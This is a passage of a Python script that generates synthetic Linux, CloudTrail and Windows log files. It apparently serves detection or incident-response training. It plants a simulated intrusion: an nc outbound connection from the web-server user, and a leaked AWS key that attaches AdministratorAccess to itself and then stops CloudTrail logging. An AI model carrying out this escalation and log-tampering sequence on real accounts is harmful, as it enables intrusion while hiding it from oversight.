    audit(t + timedelta(seconds=1), web, 88832, "SYSCALL", arch="c000003e", syscall=42, success="no", exit=-115, ppid=30390, pid=30391,
          auid=4294967295, uid=33, gid=33, euid=33, tty="(none)", ses=4294967295, comm="nc", exe="/usr/bin/nc.openbsd", key="network_connect")
    syslog(at(16, 5, 33), web, "sshd", 5120, "Received disconnect from 10.20.3.14 port 51522:11: disconnected by user")

    # CloudTrail
    acct = "418273650912"

    def ct(t, name, source, identity, ip, agent, params=None, resp=None, error=None, region="eu-west-3",
           event_type="AwsApiCall", **extra):
        rec = {"_t": t, "eventVersion": "1.09", "userIdentity": identity, "eventTime": t.strftime("%Y-%m-%dT%H:%M:%SZ"),
               "eventSource": source, "eventName": name, "awsRegion": region, "sourceIPAddress": ip, "userAgent": agent}
        if error:
            rec["errorCode"], rec["errorMessage"] = error
        rec["requestParameters"] = params
        rec["responseElements"] = resp
        rec.update(extra)
        rec.update({"requestID": guid().lower(), "eventID": guid().lower(), "readOnly": name.startswith(("Describe", "Get", "List", "Lookup")),
                    "eventType": event_type,
                    "managementEvent": True, "recipientAccountId": acct, "eventCategory": "Management"})
        out.append(rec)
        return rec

    def role(name, session, akid="ASIAWB3N7QZ"):
        return {"type": "AssumedRole", "principalId": f"AROAWB3N7QZ{hx(name, 10)}:{session}",
                "arn": f"arn:aws:sts::{acct}:assumed-role/{name}/{session}", "accountId": acct,
                "accessKeyId": akid + hx(session, 9), "sessionContext": {
                    "sessionIssuer": {"type": "Role", "principalId": f"AROAWB3N7QZ{hx(name, 10)}",
                                      "arn": f"arn:aws:iam::{acct}:role/{name}", "accountId": acct, "userName": name},
                    "attributes": {"creationDate": "2026-11-19T06:55:10Z", "mfaAuthenticated": "false"}}}

    def iam(user, mfa="true"):
        return {"type": "IAMUser", "principalId": "AIDAWB3N7QZ" + hx(user, 10), "arn": f"arn:aws:iam::{acct}:user/{user}",
                "accountId": acct, "accessKeyId": "ASIAWB3N7QZ" + hx(user + "k", 9), "userName": user,
                "sessionContext": {"attributes": {"creationDate": "2026-11-19T07:58:40Z", "mfaAuthenticated": mfa}}}

    tf = role("terraform-deploy", "gitlab-ci-5521")
    cw = role("cloudwatch-agent", "i-0a7f3c91e2b4d5f60")
    bk = role("backup-s3-sync", "min-fin-bkp01")
    agent_tf = "APN/1.0 HashiCorp/1.0 Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-aws/5.76.0"
    agent_cli = "aws-cli/2.19.1 md/awscrt#0.22.0 ua/2.0 os/linux#6.8.0-48-generic md/arch#x86_64 lang/python#3.12.6 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#ubuntu.24 md/prompt#off md/command#s3.sync"
    console = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0"
    ct(at(7, 58, 40), "ConsoleLogin", "signin.amazonaws.com",
       {"type": "IAMUser", "principalId": "AIDAWB3N7QZ" + hx("a.roux", 10), "arn": f"arn:aws:iam::{acct}:user/a.roux", "accountId": acct, "userName": "a.roux"},
       "193.57.14.20", console, None, {"ConsoleLogin": "Success"}, region="us-east-1",
       additionalEventData={"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAIdentifier": f"arn:aws:iam::{acct}:mfa/a.roux", "MFAUsed": "Yes"},
       event_type="AwsConsoleSignIn")
    ct(at(8, 3, 11), "DescribeInstances", "ec2.amazonaws.com", iam("a.roux"), "193.57.14.20", console,
       {"instancesSet": {}, "filterSet": {}}, None)
    ct(at(8, 40, 2), "AssumeRole", "sts.amazonaws.com",
       {"type": "AWSService", "invokedBy": "ec2.amazonaws.com"}, "ec2.amazonaws.com", "ec2.amazonaws.com",
       {"roleArn": f"arn:aws:iam::{acct}:role/cloudwatch-agent", "roleSessionName": "i-0a7f3c91e2b4d5f60"},
       {"credentials": {"accessKeyId": "ASIAWB3N7QZ" + hx("i-0a7f3c91e2b4d5f60", 9), "expiration": "Nov 19, 2026, 2:40:02 PM", "sessionToken": "IQoJb3JpZ2luX2VjEJr//////////wEaCWV1LXdlc3QtMyJHMEUCIQDx"}})
    ct(at(8, 40, 9), "CreateLogStream", "logs.amazonaws.com", cw, "15.236.114.28", "aws-sdk-go/1.55.5 (go1.22.8; linux; amd64)",
       {"logGroupName": "/minfin/portail/nginx", "logStreamName": "i-0a7f3c91e2b4d5f60"}, None)
    ct(at(9, 15, 30), "GetCallerIdentity", "sts.amazonaws.com", tf, "35.180.4.111", agent_tf, None, None)
    ct(at(9, 15, 41), "RunInstances", "ec2.amazonaws.com", tf, "35.180.4.111", agent_tf,
       {"instancesSet": {"items": [{"imageId": "ami-0c4b7e3f29a81d560", "minCount": 1, "maxCount": 1}]}, "instanceType": "t3.medium",
        "subnetId": "subnet-07c2d4e1f8a93b615"},
       {"instancesSet": {"items": [{"instanceId": "i-03d9b7e21c4f8a6d2", "instanceState": {"code": 0, "name": "pending"}}]}})
    ct(at(9, 16, 2), "PutBucketTagging", "s3.amazonaws.com", tf, "35.180.4.111", agent_tf,
       {"bucketName": "minfin-portail-static", "Host": "minfin-portail-static.s3.eu-west-3.amazonaws.com", "tagging": ""}, None)
    ct(at(17, 45, 3), "ListBuckets", "s3.amazonaws.com", bk, "193.57.14.40", agent_cli, {"Host": "s3.eu-west-3.amazonaws.com"}, None)
    ct(at(17, 45, 5), "CreateMultipartUpload", "s3.amazonaws.com", bk, "193.57.14.40", agent_cli,
       {"bucketName": "minfin-sauvegardes", "key": "bkp01/2026-11-19/Backup Job.vbk"}, None)
    ct(at(11, 32, 18), "DescribeTrails", "cloudtrail.amazonaws.com", iam("a.roux"), "193.57.14.20", console,
       {"trailNameList": [], "includeShadowTrails": True}, None)
    # leaked access key used from outside: first attempt denied, second (after privilege escalation) succeeds
    leaked = iam("ci-legacy-uploader", mfa="false")
    leaked.pop("sessionContext")
    leaked["accessKeyId"] = "AKIAWB3N7QZ5LKQ2M7XD"
    agent_bad = "aws-cli/2.17.20 md/awscrt#0.20.11 ua/2.0 os/linux#6.1.0-kali9-amd64 md/arch#x86_64 lang/python#3.11.9 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/prompt#off md/command#cloudtrail.stop-logging"
    ct(at(21, 4, 51), "GetCallerIdentity", "sts.amazonaws.com", leaked, RDP_ATTACKER_IP, agent_bad.replace("cloudtrail.stop-logging", "sts.get-caller-identity"), None, None)
    ct(at(21, 6, 12), "StopLogging", "cloudtrail.amazonaws.com", leaked, RDP_ATTACKER_IP, agent_bad,
       {"name": f"arn:aws:cloudtrail:eu-west-3:{acct}:trail/minfin-org-trail"}, None,
       error=("AccessDenied", f"User: arn:aws:iam::{acct}:user/ci-legacy-uploader is not authorized to perform: cloudtrail:StopLogging on resource: arn:aws:cloudtrail:eu-west-3:{acct}:trail/minfin-org-trail because no identity-based policy allows the cloudtrail:StopLogging action"))
    ct(at(21, 9, 40), "AttachUserPolicy", "iam.amazonaws.com", leaked, RDP_ATTACKER_IP, agent_bad.replace("cloudtrail.stop-logging", "iam.attach-user-policy"),
       {"userName": "ci-legacy-uploader", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, None, region="us-east-1")
    MAL["ct_stop"] = ct(at(21, 11, 3), "StopLogging", "cloudtrail.amazonaws.com", leaked, RDP_ATTACKER_IP, agent_bad,
                        {"name": f"arn:aws:cloudtrail:eu-west-3:{acct}:trail/minfin-org-trail"}, None)
    return out


# --------------------------------------------------------------------------- main
def finish(events, path):
    events.sort(key=lambda e: e["_t"])
    counters = {}
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for e in events:
            if "Event" in e:
                key = (e["_host"], e["Event"]["System"]["Channel"])
                counters[key] = counters.get(key, {"sysmon": 481207, "security": 1862344}[e["_file"]] + rng.randrange(0, 9000)) + rng.randrange(1, 40)
                e["Event"]["System"]["EventRecordID"] = counters[key]
            rec = {k: v for k, v in e.items() if not k.startswith("_")}
            f.write(json.dumps(rec, ensure_ascii=False, separators=(",", ":")) + "\n")
    return len(events)


def main():
    # The laptop MIN-FIN-LT0031 has no Sysmon yet: it only appears in the Security log.
    ctxs = {name: workstation_day(name, user) for name, (user, _) in WORKSTATIONS.items() if name != "MIN-FIN-LT0031"}
    admin_session(ctxs["MIN-FIN-WS0107"])
    intrusion(ctxs["MIN-FIN-WS0142"])
    security_day()
    sysmon = [e for e in EVENTS if e["_file"] == "sysmon"]
    security = [e for e in EVENTS if e["_file"] == "security"]
    n1 = finish(sysmon, os.path.join(OUT, "windows-sysmon.ndjson"))
    n2 = finish(security, os.path.join(OUT, "windows-security.ndjson"))
    n3 = finish(linux_cloud(), os.path.join(OUT, "linux-cloud.ndjson"))
    print(f"windows-sysmon.ndjson: {n1}  windows-security.ndjson: {n2}  linux-cloud.ndjson: {n3}")


if __name__ == "__main__":
    main()
